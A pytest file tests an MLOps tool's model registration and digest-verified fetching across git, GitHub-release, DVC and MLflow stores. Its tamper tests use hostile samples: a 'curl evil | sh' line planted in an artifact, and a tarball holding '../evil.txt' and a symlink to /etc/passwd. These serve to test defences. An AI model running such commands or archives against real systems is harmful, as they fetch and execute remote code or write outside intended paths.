"""Model files by digest: register-model records them, fetch-model gets them back verified.

git backend here (stores none and dvc, with real ``dvc`` and a local-directory
remote); the MLflow store is in tests/test_registry_mlflow.py's server session.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import RunMlci, clean_env, git, write_config

from mlci import manifest
from mlci.registry.git import GitRegistry
from mlci.registry.gto import parse_payload


def train(repo: Path, weights: str = '{"w": [1, 2, 3]}\n') -> None:
    """What a training writes: a model folder with a nested file, and its metrics."""
    (repo / "models" / "tokenizer").mkdir(parents=True, exist_ok=True)
    (repo / "models" / "weights.json").write_text(weights)
    (repo / "models" / "tokenizer" / "vocab.txt").write_text("a\nb\n")
    (repo / "metrics.json").write_text('{"accuracy": 0.9}')


def register(mlci: RunMlci, repo: Path, *args: str) -> str:
    proc = mlci("register-model", "--model", "churn", "--metrics", "metrics.json", *args, cwd=repo)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


def fetch(
    mlci: RunMlci, repo: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return mlci("fetch-model", "--model", "churn", *args, cwd=repo, env=env)


def assert_refused(proc: subprocess.CompletedProcess[str], dest: Path, *needles: str) -> str:
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]
    assert not dest.exists() or not any(dest.iterdir()), "something was left in --dest"
    assert not [p for p in dest.parent.iterdir() if p.name.startswith(".mlci-")], "temp left"
    return lines[0]


@pytest.fixture
def registered(git_repo: Path, mlci: RunMlci) -> Path:
    """churn v0.0.1 registered with models/ (store none), in staging."""
    train(git_repo)
    out = register(mlci, git_repo, "--artifacts", "models", "--store", "none")
    assert "files: 2 files, " in out and "store none" in out
    GitRegistry(root=git_repo).promote("churn", "v0.0.1", to_stage="staging")
    return git_repo


def artifact_copy(repo: Path, dest: Path, *, strip: bool) -> Path:
    """The workflow artifact as upload-artifact lays it out (models/ alone is stripped)."""
    shutil.copytree(repo / "models", dest if strip else dest / "models")
    return dest


def test_register_records_the_manifest_in_the_gto_tag_and_models_shows_it(
    registered: Path, mlci: RunMlci
) -> None:
    message = git(registered, "tag", "-l", "--format=%(contents)", "churn@v0.0.1")
    payload = parse_payload(message)
    built = manifest.build(registered, ["models"])
    assert payload["files"]["digest"] == built.digest
    assert payload["files"]["store"] == "none"
    assert [f["path"] for f in payload["files"]["manifest"]["files"]] == [
        "models/tokenizer/vocab.txt",
        "models/weights.json",
    ]
    proc = mlci("models", "--model", "churn", cwd=registered)
    assert f"files: 2 files, 21 B, {built.digest}, store none" in proc.stdout
    data = json.loads(mlci("models", "--model", "churn", "--json", cwd=registered).stdout)
    assert data["versions"][0]["files"]["digest"] == built.digest


def test_the_image_built_from_the_files_is_recorded_with_them_and_a_rollback_gets_it_back(
    git_repo: Path, tmp_path: Path
) -> None:
    """image.build: after-training: register --image records name@sha256 with the files;
    models shows it; rollback-model outputs the restored version's image for MLCI_IMAGE."""
    from mlci.commands import models, register_model, rollback_model
    from mlci.errors import UsageError

    images = [f"ghcr.io/acme/churn@sha256:{c * 64}" for c in "ab"]
    common: dict[str, Any] = {
        "model": "churn", "config_path": None, "backend": "git", "root": git_repo,
        "tracking_uri": None,
    }  # fmt: skip
    registry = GitRegistry(root=git_repo)
    for n, image in enumerate(images):
        train(git_repo, weights=f'{{"w": [{n}]}}\n')
        git(git_repo, "commit", "-q", "--allow-empty", "-m", f"model {n}")
        result = register_model.run(
            **common, metrics_path=git_repo / "metrics.json", artifacts=["models"], store="none",
            image=image,
        )  # fmt: skip
        assert result.outputs()["image"] == image
        assert f"image: {image}" in result.render_text()
        registry.promote("churn", result.version.version, to_stage="production")
    payload = parse_payload(git(git_repo, "tag", "-l", "--format=%(contents)", "churn@v0.0.1"))
    assert payload["files"]["image"] == images[0]
    listed = models.run(**common).render_text()
    assert f"    image: {images[0]}" in listed and f"    image: {images[1]}" in listed
    rolled = rollback_model.run(**common, stage="production")
    assert rolled.outputs() == {
        "model_version": "v0.0.1", "previous_version": "v0.0.2", "image": images[0],
    }  # fmt: skip
    # an image not pinned by digest, or one without model files, is refused before recording
    for image, artifacts in (("ghcr.io/acme/churn:latest", ["models"]), (images[0], [])):
        with pytest.raises(UsageError, match="--image"):
            register_model.run(
                **common, metrics_path=git_repo / "metrics.json", artifacts=artifacts,
                store="none", image=image, version="v9.0.0",
            )  # fmt: skip
    assert "churn@v9.0.0" not in git(git_repo, "tag")


def test_gto_still_reads_a_tag_that_carries_a_manifest(registered: Path) -> None:
    gto = os.environ.get("MLCI_TEST_GTO") or shutil.which("gto")
    if not gto:
        pytest.skip("gto is not installed (set MLCI_TEST_GTO to its path)")
    proc = subprocess.run(
        [gto, "show", "churn#staging", "--ref"],
        cwd=registered,
        capture_output=True,
        text=True,
        env=clean_env(),
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "churn@v0.0.1"


@pytest.mark.parametrize("strip", [True, False])
def test_files_from_the_workflow_artifact_are_verified_and_land_at_their_paths(
    registered: Path, mlci: RunMlci, tmp_path: Path, strip: bool
) -> None:
    artifact = artifact_copy(registered, tmp_path / "artifact", strip=strip)
    dest = tmp_path / "model"
    proc = fetch(
        mlci, registered, "--stage", "staging", "--from-dir", str(artifact), "--dest", str(dest)
    )
    assert proc.returncode == 0, proc.stderr
    assert "fetched churn v0.0.1 from the workflow artifact" in proc.stdout
    assert "(verified)" in proc.stdout
    assert (dest / "models" / "weights.json").read_text() == '{"w": [1, 2, 3]}\n'
    assert manifest.scan(dest) == manifest.build(registered, ["models"])


def test_verify_attestation_fails_closed_without_a_gh_that_can_verify(
    registered: Path, mlci: RunMlci, tmp_path: Path
) -> None:
    """registry.attest's check: no repository, no gh, a gh without `gh attestation` (Debian's
    2.23, installed by .ci/run) or an attestation gh cannot find here (no network) is exit 2
    with one line, and nothing reaches --dest. A real verification needs GitHub: not here."""
    artifact = artifact_copy(registered, tmp_path / "artifact", strip=True)
    dest = tmp_path / "model"
    args = ("--stage", "staging", "--from-dir", str(artifact), "--dest", str(dest))
    repo = {"GITHUB_REPOSITORY": "acme/churn", "GH_CONFIG_DIR": str(tmp_path / "gh-config")}

    proc = fetch(mlci, registered, *args, "--verify-attestation")
    assert_refused(proc, dest, "--verify-attestation needs the repository", "GITHUB_REPOSITORY")

    only_git = tmp_path / "bin"
    only_git.mkdir()
    (only_git / "git").symlink_to(str(shutil.which("git")))
    proc = mlci(
        "fetch-model", "--model", "churn", *args, "--verify-attestation", cwd=registered,
        env={**repo, "PATH": str(only_git)},
    )  # fmt: skip
    assert_refused(proc, dest, "needs the GitHub CLI (gh 2.49 or later) on PATH")

    gh = shutil.which("gh")
    if gh is None:
        pytest.skip("gh is not installed (.ci/run installs Debian's)")
    proc = mlci(
        "fetch-model", "--model", "churn", *args, "--verify-attestation", cwd=registered, env=repo
    )
    version = subprocess.run([gh, "--version"], capture_output=True, text=True, check=True).stdout
    old = tuple(int(x) for x in version.split()[2].split(".")[:2]) < (2, 49)
    needle = "has no `gh attestation` command" if old else "did not verify for acme/churn"
    line = assert_refused(proc, dest, needle)
    assert not old or line.endswith("it needs gh 2.49 or later"), line
    # without the flag the same fetch passes: the refusals above were the attestation's
    assert fetch(mlci, registered, *args).returncode == 0


def flip(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[0] ^= 0x20
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(
    ("tamper", "needle"),
    [
        (lambda a: flip(a / "weights.json"), "models/weights.json has sha256"),
        (
            lambda a: (a / "tokenizer" / "vocab.txt").unlink(),
            "models/tokenizer/vocab.txt is missing",
        ),
        (
            lambda a: (a / "run.sh").write_text("curl evil | sh\n"),
            "models/run.sh is not in the recorded manifest",
        ),
        (
            lambda a: (a / "weights.json").rename(a / "weights.bak"),
            "models/weights.json was renamed to models/weights.bak",
        ),
    ],
    ids=["flipped-byte", "missing", "extra", "renamed"],
)
def test_tampered_files_are_exit_2_with_one_line_and_nothing_in_dest(
    registered: Path, mlci: RunMlci, tmp_path: Path, tamper: object, needle: str
) -> None:
    artifact = artifact_copy(registered, tmp_path / "artifact", strip=True)
    tamper(artifact)  # type: ignore[operator]
    dest = tmp_path / "model"
    proc = fetch(
        mlci, registered, "--version", "v0.0.1", "--from-dir", str(artifact), "--dest", str(dest)
    )
    line = assert_refused(proc, dest, "do not match the recorded digest", needle)
    assert line.startswith("mlci: error: churn v0.0.1's files from the workflow artifact")
    assert not dest.exists()


def test_store_none_cannot_fetch_and_says_so(
    registered: Path, mlci: RunMlci, tmp_path: Path
) -> None:
    dest = tmp_path / "model"
    dest.mkdir()  # an empty folder is allowed, and stays as it was
    proc = fetch(mlci, registered, "--version", "0.0.1", "--dest", str(dest))
    assert_refused(proc, dest, "registry.store: none", "cannot be fetched")
    assert dest.is_dir()


def test_bad_requests_are_exit_2(registered: Path, mlci: RunMlci, tmp_path: Path) -> None:
    full = tmp_path / "full"
    full.mkdir()
    (full / "keep.txt").write_text("mine")
    artifact = artifact_copy(registered, tmp_path / "artifact", strip=True)
    cases = [
        (("--version", "v0.0.1", "--from-dir", str(artifact), "--dest", str(full)), "is not empty"),
        (
            ("--stage", "production", "--dest", str(tmp_path / "a")),
            "no version of churn holds production",
        ),
        (("--dest", str(tmp_path / "b")), "exactly one of --version V or --stage S"),
        (("--version", "v9.9.9", "--dest", str(tmp_path / "c")), "churn@v9.9.9 is not registered"),
    ]
    for args, needle in cases:
        proc = fetch(mlci, registered, *args)
        assert proc.returncode == 2, (args, proc.stderr)
        assert needle in proc.stderr, proc.stderr
    assert (full / "keep.txt").read_text() == "mine"


def test_a_version_without_files_has_nothing_to_verify(
    git_repo: Path, mlci: RunMlci, tmp_path: Path
) -> None:
    (git_repo / "metrics.json").write_text('{"accuracy": 0.9}')
    out = register(mlci, git_repo)
    assert "files:" not in out
    proc = fetch(mlci, git_repo, "--version", "v0.0.1", "--dest", str(tmp_path / "m"))
    assert_refused(proc, tmp_path / "m", "records no model files")


def test_config_names_the_artifacts_and_refuses_a_store_the_backend_cannot_use(
    git_repo: Path, mlci: RunMlci
) -> None:
    train(git_repo)
    write_config(
        git_repo,
        "version: 1\ntrain:\n  command: python train.py\n  artifacts: [models/]\n"
        "registry:\n  model: churn\n  store: none\n",
    )
    out = register(mlci, git_repo)
    assert "files: 2 files" in out and "store none" in out
    write_config(
        git_repo,
        "version: 1\ntrain:\n  command: python train.py\nregistry:\n  store: mlflow\n",
    )
    proc = mlci("register-model", "--metrics", "metrics.json", cwd=git_repo)
    assert proc.returncode == 2
    assert "store: mlflow needs backend: mlflow" in proc.stderr


def test_a_missing_artifact_fails_registration_before_anything_is_recorded(
    git_repo: Path, mlci: RunMlci
) -> None:
    (git_repo / "metrics.json").write_text('{"accuracy": 0.9}')
    proc = mlci(
        "register-model",
        "--model",
        "churn",
        "--metrics",
        "metrics.json",
        "--artifacts",
        "models",
        "--store",
        "none",
        cwd=git_repo,
    )
    assert proc.returncode == 2
    assert "'models' does not exist" in proc.stderr and "did the training write it?" in proc.stderr
    assert git(git_repo, "tag").strip() == ""


# --------------------------------------------------------------------------- github-release store


@pytest.fixture
def pushed(git_repo: Path, tmp_path: Path) -> Path:
    """git_repo with a bare origin to push tags to."""
    bare = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(git_repo), str(bare))
    git(git_repo, "remote", "add", "origin", str(bare))
    return git_repo


def gh_env(github: Any) -> dict[str, str]:
    return {
        "GITHUB_API_URL": github.api_url,
        "MLCI_GITHUB_TOKEN": "fake-token",
        "GITHUB_REPOSITORY": "octo/churn-repo",
    }


def test_github_release_store_round_trip_as_a_prerelease_that_never_becomes_latest(
    pushed: Path, mlci: RunMlci, tmp_path: Path, github: Any
) -> None:
    train(pushed)
    env = gh_env(github)
    proc = mlci(
        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts", "models",
        "--push", cwd=pushed, env=env,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "store github-release" in proc.stdout
    assert (
        "store: uploaded churn-v0.0.1.tar.gz to the octo/churn-repo release churn@v0.0.1"
        in proc.stdout
    )
    (release,) = github.releases["octo/churn-repo"]
    assert release["tag_name"] == "churn@v0.0.1" and release["prerelease"] is True
    create = github.calls("repos/create-release")[0]
    assert json.loads(create.body)["make_latest"] == "false"
    # Rerunning the registration (same commit) keeps the version and the one asset.
    proc = mlci(
        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts", "models",
        "--push", cwd=pushed, env=env,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "already holds churn-v0.0.1.tar.gz" in proc.stdout
    assert len(github.releases["octo/churn-repo"][0]["assets"]) == 1
    shutil.rmtree(pushed / "models")
    dest = tmp_path / "fetched"
    proc = fetch(mlci, pushed, "--version", "v0.0.1", "--dest", str(dest), env=env)
    assert proc.returncode == 0, proc.stderr
    assert "from github-release" in proc.stdout
    assert (dest / "models" / "weights.json").read_text() == '{"w": [1, 2, 3]}\n'


def test_a_local_registration_needs_no_repository_until_the_files_are_pushed(
    git_repo: Path, mlci: RunMlci, github: Any
) -> None:
    """The tutorial's step: register on a laptop (no GITHUB_REPOSITORY, no --push) with the
    default github-release store. It demanded the repository, used only to upload, and exit 2."""
    train(git_repo)
    args = ("--artifacts", "models", "--store", "github-release")
    out = register(mlci, git_repo, *args)
    assert "files not uploaded: the tag was not pushed (--push uploads them)" in out
    assert GitRegistry(root=git_repo).get("churn", "v0.0.1").files.location == {}
    # An origin on github.com names it (recorded, so a later fetch knows where to look)
    git(git_repo, "remote", "add", "origin", "git@github.com:octo/churn-repo.git")
    train(git_repo, weights='{"w": [4]}\n')
    git(git_repo, "commit", "-q", "--allow-empty", "-m", "retrain")
    register(mlci, git_repo, *args)
    files = GitRegistry(root=git_repo).get("churn", "v0.0.2").files
    assert files is not None and files.location == {"repository": "octo/churn-repo"}
    # Pushing the files does need it: an origin elsewhere and no GITHUB_REPOSITORY is one
    # line, exit 2, before anything is recorded
    git(git_repo, "remote", "set-url", "origin", str(git_repo.parent / "elsewhere.git"))
    git(git_repo, "init", "-q", "--bare", str(git_repo.parent / "elsewhere.git"))
    git(git_repo, "commit", "-q", "--allow-empty", "-m", "again")
    proc = mlci(
        "register-model", "--model", "churn", "--metrics", "metrics.json", *args, "--push",
        cwd=git_repo, env={"GITHUB_API_URL": github.api_url, "MLCI_GITHUB_TOKEN": "t"},
    )  # fmt: skip
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "the github-release store needs the repository" in proc.stderr
    assert "churn@v0.0.3" not in git(git_repo, "tag")


@pytest.mark.parametrize(
    ("url", "repo"),
    [
        ("https://github.com/octo/churn.git", "octo/churn"),
        ("https://x-access-token:t@github.com/octo/churn", "octo/churn"),
        ("git@github.com:octo/churn.ml.git", "octo/churn.ml"),
        ("ssh://git@github.com/octo/churn/", "octo/churn"),
        ("https://gitlab.com/octo/churn.git", None),
        ("/srv/git/churn.git", None),
    ],
)
def test_the_repository_of_an_origin_on_github(git_repo: Path, url: str, repo: str | None) -> None:
    from mlci.stores import origin_repository

    git(git_repo, "remote", "add", "origin", url)
    assert origin_repository(git_repo) == repo


def test_github_release_store_refuses_a_replaced_or_missing_asset(
    pushed: Path, mlci: RunMlci, tmp_path: Path, github: Any
) -> None:
    from mlci import stores

    train(pushed)
    env = gh_env(github)
    proc = mlci(
        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts", "models",
        "--push", cwd=pushed, env=env,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    # Someone replaces the asset with other weights: the digest says no.
    (aid,) = github.assets
    repo, asset, _ = github.assets[aid]
    train(pushed, weights='{"w": [6, 6, 6]}\n')
    github.assets[aid] = (repo, asset, stores.tarball(pushed, manifest.build(pushed, ["models"])))
    dest = tmp_path / "m"
    proc = fetch(mlci, pushed, "--version", "v0.0.1", "--dest", str(dest), env=env)
    assert_refused(proc, dest, "from github-release do not match", "models/weights.json has sha256")
    # The asset is gone.
    github.releases["octo/churn-repo"][0]["assets"].clear()
    proc = fetch(mlci, pushed, "--version", "v0.0.1", "--dest", str(dest), env=env)
    assert_refused(proc, dest, "has no asset churn-v0.0.1.tar.gz")
    # The release is gone.
    github.releases["octo/churn-repo"].clear()
    proc = fetch(mlci, pushed, "--version", "v0.0.1", "--dest", str(dest), env=env)
    assert_refused(proc, dest, "has no release churn@v0.0.1")


def test_a_release_tarball_cannot_write_outside_the_destination(tmp_path: Path) -> None:
    import io
    import tarfile

    from mlci import stores
    from mlci.errors import UsageError

    for name, kind in (("../evil.txt", tarfile.REGTYPE), ("models/link", tarfile.SYMTYPE)):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = "/etc/passwd" if kind == tarfile.SYMTYPE else ""
            tar.addfile(info, io.BytesIO(b""))
        with pytest.raises(UsageError, match=r"outside it|link or device"):
            stores._extract(buffer.getvalue(), tmp_path / name.replace("/", "_"), what="churn v1")
    assert not (tmp_path.parent / "evil.txt").exists()


# --------------------------------------------------------------------------- dvc store


@pytest.fixture
def dvc_repo(git_repo: Path, tmp_path: Path) -> Path:
    """The repository as a DVC project with a local-directory default remote (relative path)."""
    if shutil.which("dvc") is None:
        pytest.skip("dvc is not installed")
    env = clean_env({"DVC_NO_ANALYTICS": "1"})
    for args in (["init", "-q"], ["remote", "add", "-d", "storage", "../dvc-remote"]):
        proc = subprocess.run(
            ["dvc", *args], cwd=git_repo, env=env, capture_output=True, text=True, check=False
        )
        assert proc.returncode == 0, proc.stderr
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-q", "-m", "dvc")
    return git_repo


@pytest.mark.slow
def test_dvc_store_round_trip_tampered_remote_and_unreachable_remote(
    dvc_repo: Path, mlci: RunMlci, tmp_path: Path
) -> None:
    train(dvc_repo)
    remote = tmp_path / "dvc-remote"
    # A model the gate rejected is refused before its files are pushed: the remote stays empty.
    (tmp_path / "rejected.json").write_text('{"passed": false}')
    proc = mlci(
        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts",
        "models", "--report", str(tmp_path / "rejected.json"), cwd=dvc_repo,
    )  # fmt: skip
    assert proc.returncode == 1 and "a rejected model is not registered" in proc.stderr
    assert not remote.exists() and git(dvc_repo, "tag").strip() == ""
    out = register(mlci, dvc_repo, "--artifacts", "models")  # auto: .dvc/config → dvc
    assert "store dvc" in out
    assert remote.is_dir() and any(p.is_file() for p in remote.rglob("*"))
    # Deleting the training's output does not matter: the files come from the remote.
    shutil.rmtree(dvc_repo / "models")
    dest = tmp_path / "fetched"
    proc = fetch(mlci, dvc_repo, "--version", "v0.0.1", "--dest", str(dest))
    assert proc.returncode == 0, proc.stderr
    assert "from dvc" in proc.stdout
    assert (dest / "models" / "weights.json").read_text() == '{"w": [1, 2, 3]}\n'
    # A flipped byte in the remote's copy of weights.json is caught.
    blob = next(
        p for p in remote.rglob("*") if p.is_file() and p.read_bytes() == b'{"w": [1, 2, 3]}\n'
    )
    os.chmod(blob, 0o644)
    flip(blob)
    proc = fetch(mlci, dvc_repo, "--version", "v0.0.1", "--dest", str(tmp_path / "again"))
    assert_refused(proc, tmp_path / "again", "do not match the recorded digest")
    # An unreachable remote: exit 2, one line, nothing left.
    shutil.rmtree(remote)
    proc = fetch(mlci, dvc_repo, "--version", "v0.0.1", "--dest", str(tmp_path / "gone"))
    assert_refused(proc, tmp_path / "gone", "dvc pull failed")


# --------------------------------------------------------------------------- mlflow store


@pytest.mark.slow
def test_mlflow_store_keeps_the_files_with_the_run_and_records_the_manifest_as_tags(
    tmp_path: Path, mlci: RunMlci, mlflow_server: str, logged_model: dict[str, str]
) -> None:
    mlflow = pytest.importorskip("mlflow")
    name = f"churn-files-{os.getpid()}"
    repo = tmp_path / "work"
    repo.mkdir()
    train(repo)
    env = {"MLFLOW_TRACKING_URI": mlflow_server}
    common = ("--model", name, "--backend", "mlflow")
    proc = mlci(
        "register-model", *common, "--metrics", "metrics.json", "--source", logged_model["model_uri"],
        "--artifacts", "models", cwd=repo, env=env,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "store mlflow" in proc.stdout
    built = manifest.build(repo, ["models"])
    client = mlflow.MlflowClient(tracking_uri=mlflow_server, registry_uri=mlflow_server)
    tags = client.get_model_version(name, "1").tags
    assert tags["mlci.digest"] == built.digest and tags["mlci.store"] == "mlflow"
    assert (
        json.loads(tags["mlci.files.000"])["manifest"]["files"][0]["path"]
        == "models/tokenizer/vocab.txt"
    )
    listed = mlci("models", *common, cwd=repo, env=env)
    assert f"files: 2 files, 21 B, {built.digest}, store mlflow" in listed.stdout
    client.set_registered_model_alias(name, "production", "1")
    dest = tmp_path / "fetched"
    proc = mlci(
        "fetch-model", *common, "--stage", "production", "--dest", str(dest), cwd=repo, env=env
    )
    assert proc.returncode == 0, proc.stderr
    assert manifest.scan(dest) == built
    # The run's copy is replaced by other bytes: the fetch refuses it.
    changed = tmp_path / "changed" / "models"
    changed.mkdir(parents=True)
    (changed / "weights.json").write_text('{"w": [9, 9, 9]}\n')
    client.log_artifact(logged_model["run_id"], str(changed / "weights.json"), "mlci-model/models")
    proc = mlci(
        "fetch-model", *common, "--version", "1", "--dest", str(tmp_path / "bad"), cwd=repo, env=env
    )
    assert_refused(proc, tmp_path / "bad", "models/weights.json has sha256")
    # An unreachable server: exit 2 too.
    proc = mlci(
        "fetch-model", *common, "--version", "1", "--dest", str(tmp_path / "down"), cwd=repo,
        env={"MLFLOW_TRACKING_URI": "http://127.0.0.1:9", "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0"},
    )  # fmt: skip
    assert_refused(proc, tmp_path / "down", "MLflow")
